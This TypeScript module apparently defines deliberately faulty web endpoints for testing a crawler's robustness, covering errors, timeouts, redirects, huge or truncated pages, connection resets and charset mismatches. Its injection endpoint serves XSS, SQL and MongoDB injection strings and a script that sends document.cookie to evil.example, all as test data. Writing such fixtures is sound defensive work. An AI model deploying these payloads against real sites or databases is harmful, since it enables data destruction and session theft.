// Endpoints that misbehave on purpose, for crawler robustness tests: errors, a request that never answers in
// time, an off-allow-list redirect, a 10 MB page, truncated HTML, a connection reset mid-body, hostile field
// values, and a wrong declared charset.
// In: the request path under /bad/. Out: a handler writing the misbehaving response, or null (404).
import type { IncomingMessage, ServerResponse } from 'node:http';
import iconv from 'iconv-lite';
import { escapeHtml, scriptJson } from './text.ts';
import { page } from './platforms/layout.ts';

export const BAD_PATHS = [
  '/bad/500',
  '/bad/slow',
  '/bad/redirect-offsite',
  '/bad/redirect-internal',
  '/bad/huge',
  '/bad/truncated',
  '/bad/reset',
  '/bad/injection',
  '/bad/charset',
  '/bad/charset-gbk-declared',
] as const;

/** How long /bad/slow holds a request before answering (longer than any sane crawler timeout). */
export const SLOW_MS = 60_000;
export const HUGE_BYTES = 10 * 1024 * 1024;

/** Field values of /bad/injection, exactly as the page shows them (a pipeline must store them verbatim). */
export const INJECTION_FIELDS = {
  listing_id: 'inj-1',
  title: `<script>alert("xss")</script>儿童电动童车'; DROP TABLE listing_snapshots; --`,
  brand: `Robert'); DROP TABLE sellers;--`,
  model: `' OR '1'='1`,
  price: 199,
  currency: 'CNY',
  seller_name: `<img src=x onerror=alert(1)>商贸有限公司`,
  producer_name: `"}); db.dropDatabase(); ({"`,
  producer_address: `\\'; SELECT * FROM system.users; --`,
} as const;

export const CHARSET_TEXT = '字符集错误的页面：电热水壶 价格 ￥89.00';

export interface BadContext {
  offsiteUrl: string;
  /** Registers a timer so close() can clear it. */
  hold(timer: NodeJS.Timeout): void;
}

function html(res: ServerResponse, status: number, body: string | Buffer, contentType = 'text/html; charset=utf-8'): void {
  const buf = typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
  res.writeHead(status, { 'content-type': contentType, 'content-length': buf.length });
  res.end(buf);
}

export function badHandler(path: string): ((req: IncomingMessage, res: ServerResponse, ctx: BadContext) => void) | null {
  switch (path) {
    case '/bad/':
    case '/bad':
      return (_q, res) => html(res, 200, page('bad endpoints', `<ul>${BAD_PATHS.map((p) => `<li><a href="${p}">${p}</a></li>`).join('')}</ul>`));
    case '/bad/500':
      return (_q, res) => html(res, 500, page('500', '<h1>服务器内部错误 Internal Server Error</h1>'));
    case '/bad/slow':
      return (_q, res, ctx) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }); // headers only; the body never comes in time
        res.flushHeaders();
        ctx.hold(setTimeout(() => res.end(page('slow', '<p>finally</p>')), SLOW_MS));
      };
    case '/bad/redirect-offsite':
      return (_q, res, ctx) => {
        res.writeHead(302, { location: ctx.offsiteUrl, 'content-length': 0 });
        res.end();
      };
    case '/bad/redirect-internal':
      return (_q, res) => {
        res.writeHead(301, { location: '/bigmall/', 'content-length': 0 });
        res.end();
      };
    case '/bad/huge':
      return (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-length': HUGE_BYTES });
        const head = Buffer.from('<!DOCTYPE html><html><head><meta charset="utf-8"><title>huge</title></head><body>\n');
        const tail = Buffer.from('\n</body></html>\n');
        const line = Buffer.from('<p class="filler">这是一个非常大的页面 this page is very large 0123456789</p>\n');
        let left = HUGE_BYTES - head.length - tail.length;
        res.write(head);
        const pump = (): void => {
          while (left > 0) {
            const n = Math.min(left, line.length);
            left -= n;
            if (!res.write(n === line.length ? line : Buffer.alloc(n, 0x20))) {
              res.once('drain', pump);
              return;
            }
          }
          res.end(tail);
        };
        pump();
      };
    case '/bad/truncated':
      return (_q, res) =>
        html(res, 200, '<!DOCTYPE html><html><head><meta charset="utf-8"><title>半截页面</title></head><body><div class="item"><h1 class="item-title">半截页面 truncated</h1><span class="price">¥12');
    case '/bad/reset':
      return (_q, res) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-length': 5000 });
        res.write('<!DOCTYPE html><html><head><title>reset</title></head><body><p>connection will be reset');
        setTimeout(() => res.socket?.destroy(), 20);
      };
    case '/bad/injection':
      return (_q, res) => {
        const f = INJECTION_FIELDS;
        const ld = {
          '@context': 'https://schema.org',
          '@type': 'Product',
          name: f.title,
          sku: f.listing_id,
          brand: { '@type': 'Brand', name: f.brand },
          model: f.model,
          manufacturer: { '@type': 'Organization', name: f.producer_name, address: { '@type': 'PostalAddress', streetAddress: f.producer_address } },
          offers: { '@type': 'Offer', price: f.price.toFixed(2), priceCurrency: f.currency, seller: { '@type': 'Organization', name: f.seller_name } },
        };
        const e = escapeHtml;
        html(
          res,
          200,
          page(
            'injection',
            `<main class="item" data-listing-id="${f.listing_id}">
<h1 class="item-title">${e(f.title)}</h1>
<span class="price">¥${f.price.toFixed(2)}</span>
<table class="specs"><tr class="brand"><th>品牌</th><td>${e(f.brand)}</td></tr><tr class="model"><th>型号</th><td>${e(f.model)}</td></tr></table>
<dl class="seller-card"><dt>企业名称</dt><dd class="seller-name">${e(f.seller_name)}</dd></dl>
<a href="javascript:alert(1)">click</a> <a href="http://evil.example/steal">offsite link</a>
<script>fetch('http://evil.example/steal?c=' + document.cookie)</script>
</main>`,
            { head: `<script type="application/ld+json">${scriptJson(ld)}</script>\n` },
          ),
        );
      };
    case '/bad/charset':
      // Declares UTF-8 (header and meta) but the bytes are GBK.
      return (_q, res) => html(res, 200, iconv.encode(page('charset', `<p class="text">${CHARSET_TEXT}</p>`), 'gbk'));
    case '/bad/charset-gbk-declared':
      // Declares GBK but the bytes are UTF-8.
      return (_q, res) => html(res, 200, Buffer.from(page('charset', `<p class="text">${CHARSET_TEXT}</p>`, { charset: 'gbk' })), 'text/html; charset=gbk');
    default:
      return null;
  }
}
